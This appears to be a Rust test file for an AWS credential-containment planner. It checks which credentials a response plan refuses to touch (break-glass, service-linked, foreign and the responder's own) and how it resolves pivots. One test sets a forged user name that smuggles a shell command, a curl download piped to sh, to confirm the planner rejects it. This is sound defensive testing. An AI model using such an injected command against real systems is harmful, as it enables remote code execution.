//! What a plan does not touch, and that it says so.

use keyline_contain::{AlteringEvent, ErrorKind, Reach, Reason, Request, Target};
use keyline_lineage::Credential;
use serde_json::{Value, json};

use crate::world::*;

#[track_caller]
fn check_refused(credential: Credential, change: impl Fn(&mut Ask<'_>), reason: Reason, why: &str) {
    let forest = forest(std::slice::from_ref(&credential));
    let mut ask = Ask::of(&forest, &credential.id);
    change(&mut ask);
    let plan = ask.plan();
    let acts = plan
        .steps
        .iter()
        .filter(|step| step.kind != "notify-account");
    assert_eq!(acts.count(), 0, "\n{}", plan.markdown());
    assert_eq!(plan.refused.len(), 1);
    assert!(plan.refused[0].why.contains(why), "{:?}", plan.refused);
    assert_eq!(plan.still_alive_after[0].reason, reason);
}

#[test]
fn whoever_runs_the_plan_is_refused_with_its_chain() {
    let own = [format!("arn:aws:sts::{OURS}:assumed-role/Responder/me")];
    check_refused(
        session("cr-me", OURS, "Responder", "me"),
        |ask| ask.estate.own = own.to_vec(),
        Reason::Protected,
        "runs the plan",
    );
    // A session of the chain is named: the user above it is spared as well.
    let above = key("cr-key", OURS, "responder");
    let session = from(&above, session("cr-me", OURS, "Responder", "me"));
    let forest = forest(&[above, session]);
    let mut ask = Ask::of(&forest, "cr-key");
    for own in ["cr-me", "AKIACRKEY"] {
        ask.estate.own = vec![own.to_owned()];
        let plan = ask.plan();
        let touches_alice = plan
            .steps
            .iter()
            .any(|step| step.params.get("user_name").is_some());
        assert!(!touches_alice, "{own}\n{}", plan.markdown());
        assert_eq!(ask.estate.own_of_nobody(Some(&forest)), None);
    }
    ask.estate.own = vec!["cr-me".to_owned()];
    let plan = ask.plan();
    assert!(plan.steps.is_empty(), "\n{}", plan.markdown());
    assert_eq!(plan.still_alive_after.len(), 2);
    // What names nobody would protect nobody, and nobody would notice.
    ask.estate.own = vec!["AKIANOBODY".to_owned()];
    assert_eq!(ask.estate.own_of_nobody(Some(&forest)), Some("AKIANOBODY"));
    assert_eq!(ask.estate.own_of_nobody(None), Some("AKIANOBODY"));
}

#[test]
fn break_glass_service_linked_hub_foreign_and_nameless() {
    check_refused(
        session("cr-1", OURS, "BreakGlassAdmin", "x"),
        |ask| ask.estate.break_glass = vec!["arn:aws:iam::*:role/BreakGlass*".to_owned()],
        Reason::Protected,
        "break-glass",
    );
    check_refused(
        Credential {
            role_arn: format!("arn:aws:iam::{OURS}:role/aws-service-role/x.amazonaws.com/Own"),
            ..session("cr-1", OURS, "Own", "x")
        },
        |_| {},
        Reason::ServiceLinkedRole,
        "service-linked",
    );
    check_refused(
        session("cr-1", OURS, "OrganizationAccountAccessRole", "x"),
        |_| {},
        Reason::Protected,
        "forced",
    );
    check_refused(
        session("cr-1", FOREIGN, "Admin", "x"),
        |ask| ask.estate.accounts = Some([OURS.to_owned()].into()),
        Reason::ForeignAccount,
        FOREIGN,
    );
    check_refused(
        bare("cr-1", keyline_lineage::Kind::UnknownTemporary, OURS),
        |_| {},
        Reason::CannotBeDenied,
        "whose it is",
    );
}

#[test]
fn a_session_on_the_break_glass_list_protects_its_role() {
    for (entry, protected) in [
        (
            "arn:aws:sts::111122223333:assumed-role/Glass/me",
            Some("arn:aws:iam::111122223333:role/Glass"),
        ),
        (
            "arn:aws-cn:sts::*:assumed-role/Glass*/*",
            Some("arn:aws-cn:iam::*:role/Glass*"),
        ),
        (
            "arn:aws:iam::*:role/a/b/Glass",
            Some("arn:aws:iam::*:role/a/b/Glass"),
        ),
        ("arn:aws:iam::*:user/*", Some("arn:aws:iam::*:user/*")),
        (
            "arn:aws:iam::111122223333:root",
            Some("arn:aws:iam::111122223333:root"),
        ),
        ("arn:aws:*", Some("arn:aws:*")),
        ("arn:aws:sts::111122223333:federated-user/me", None),
        ("arn:aws:sts::111122223333:assumed-role/", None),
        ("arn:aws:iam::111122223333:group/Admins", None),
        ("arn:aws:s3:::bucket", None),
        ("arn:aws:iam::111122223333", None),
        ("role/Glass", None),
        ("role/Glass*", None),
        ("x:aws:iam::111122223333:role/Glass", None),
        ("*", Some("*")),
        ("", None),
    ] {
        let found = keyline_contain::protected_by(entry);
        assert_eq!(found.as_deref(), protected, "{entry}");
    }
    check_refused(
        session("cr-1", OURS, "Glass", "x"),
        |ask| {
            let me = format!("arn:aws:sts::{OURS}:assumed-role/Glass/me");
            ask.estate.break_glass = vec![me];
        },
        Reason::Protected,
        "as `arn:aws:sts::111122223333:assumed-role/Glass/me`",
    );
    let me = format!("arn:aws:sts::{OURS}:assumed-role/Glass/me");
    let policy = keyline_contain::permissions::of_responder(
        keyline_contain::action::Responder::ContainIam,
        keyline_trail::partition::Partition::Aws,
        &[],
        &[me],
    );
    let denied = policy["Statement"].as_array().unwrap().last().unwrap();
    let role = format!("arn:aws:iam::{OURS}:role/Glass");
    assert_eq!(denied["Resource"], serde_json::json!([role]));
}

#[test]
fn a_name_that_aws_never_gave_stands_in_no_command() {
    let forged = Credential {
        user_name: "a'; curl example.com | sh #".to_owned(),
        principal_arn: format!("arn:aws:iam::{OURS}:user/a'; curl example.com | sh #"),
        ..key("cr-1", OURS, "x")
    };
    check_refused(forged, |_| {}, Reason::CannotBeDenied, "whose it is");
}

#[test]
fn forced_roles_are_touched() {
    let forest = forest(&[session("cr-1", OURS, "OrganizationAccountAccessRole", "x")]);
    let mut ask = Ask::of(&forest, "cr-1");
    ask.estate.forced = vec!["OrganizationAccountAccessRole".to_owned()];
    assert!(ask.plan().still_alive_after.is_empty());
}

#[test]
fn an_unknown_target_is_an_error() {
    let forest = forest(&[key("cr-1", OURS, "alice")]);
    let ask = Ask::of(&forest, "");
    let result = keyline_contain::plan(&Request {
        target: &Target::Pivot("AKIAUNKNOWN".to_owned()),
        forest: ask.forest,
        as_of: NOW,
        made_at: NOW,
        inventory: &ask.inventory,
        events: &[],
        estate: &ask.estate,
        reach: Reach::Tree,
        breadth: ask.breadth,
        stolen_since: None,
        first_alert: None,
    });
    let error = result.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::TargetUnknown);
    assert!(error.to_string().contains("AKIAUNKNOWN"));
}

#[test]
fn pivots_find_their_credentials() {
    let stolen = key("cr-key", OURS, "alice");
    let made = from(&stolen, session("cr-role", OURS, "Admin", "work"));
    let forest = forest(&[stolen, made]);
    for pivot in [
        "cr-role",
        "AKIACRKEY",
        "alice",
        "work",
        "arn:aws:iam::111122223333:role/Admin",
        "arn:aws:sts::111122223333:assumed-role/Admin/work",
        "AROAADMIN111122223333:work",
    ] {
        assert_eq!(
            Ask::of(&forest, pivot).plan().credentials,
            ["cr-key", "cr-role"],
            "{pivot}"
        );
    }
}

#[test]
fn a_name_that_several_have_is_said_to_be_theirs() {
    let note = |tree: &[Credential]| {
        let plan = Ask::of(&forest(tree), "alice").plan();
        plan.notes
            .into_iter()
            .find(|note| note.contains("the name of several"))
    };
    let [here, there] = [key("cr-1", OURS, "alice"), key("cr-2", OTHER, "alice")];
    assert_eq!(note(&[here.clone(), password("cr-3", OURS, "alice")]), None);
    let told = note(&[here, there]).unwrap();
    for account in [OURS, OTHER] {
        assert!(
            told.contains(&format!("arn:aws:iam::{account}:user/alice")),
            "{told}"
        );
    }
}

#[test]
fn a_key_made_long_ago_does_not_accuse_its_maker() {
    let admin = password("cr-admin", OURS, "bob");
    let signed_in = from(&admin, console("cr-console", OURS, "bob"));
    let stolen = from(&signed_in, key("cr-key", OURS, "ci"));
    let forest = forest(&[admin, signed_in, stolen]);
    let mut ask = Ask::of(&forest, "cr-key");
    let plan = ask.plan();
    assert_eq!(plan.credentials, ["cr-key"]);
    assert!(
        plan.notes
            .iter()
            .any(|note| note.contains("console session of bob")),
        "{:?}",
        plan.notes
    );
    ask.reach = Reach::Root;
    assert_eq!(ask.plan().credentials.len(), 3);
}

#[test]
fn dormant_siblings_are_in_also_when_only_what_is_below_is_asked_for() {
    let stolen = key("cr-key", OURS, "alice");
    let used = from(&stolen, session("cr-used", OURS, "Admin", "a"));
    let busy = from(&stolen, session("cr-busy", OURS, "Audit", "b"));
    let dormant = Credential {
        event_count: 0,
        ..from(&stolen, session("cr-dormant", OURS, "Deploy", "c"))
    };
    let forest = forest(&[stolen, used, busy, dormant]);
    let mut ask = Ask::of(&forest, "cr-used");
    ask.reach = Reach::Below;
    assert_eq!(ask.plan().credentials, ["cr-dormant", "cr-used"]);
}

/// An event of the tree.
pub fn event(
    id: &str,
    name: &str,
    credential: &str,
    request: Value,
    response: Value,
) -> AlteringEvent {
    AlteringEvent {
        event_id: id.to_owned(),
        at: NOW - HOUR / 2,
        account: OURS.to_owned(),
        region: "us-east-1".to_owned(),
        source: "iam.amazonaws.com".to_owned(),
        name: name.to_owned(),
        credential: credential.to_owned(),
        address: String::new(),
        failed: false,
        request,
        response,
        before: None,
        touched_later_by: Vec::new(),
    }
}

#[test]
fn what_was_done_to_the_protected_is_not_taken_back() {
    let stolen = key("cr-key", OURS, "alice");
    let forest = forest(&[stolen]);
    let mut ask = Ask::of(&forest, "cr-key");
    ask.estate.break_glass = vec!["arn:aws:iam::*:user/glass".to_owned()];
    let request =
        json!({"userName": "glass", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"});
    ask.events = vec![event(
        "e-1",
        "AttachUserPolicy",
        "cr-key",
        request,
        Value::Null,
    )];
    let plan = ask.plan();
    assert!(
        plan.steps
            .iter()
            .all(|step| step.action != "DetachUserPolicy")
    );
    assert!(plan.refused[0].target.contains("e-1"), "{:?}", plan.refused);
}
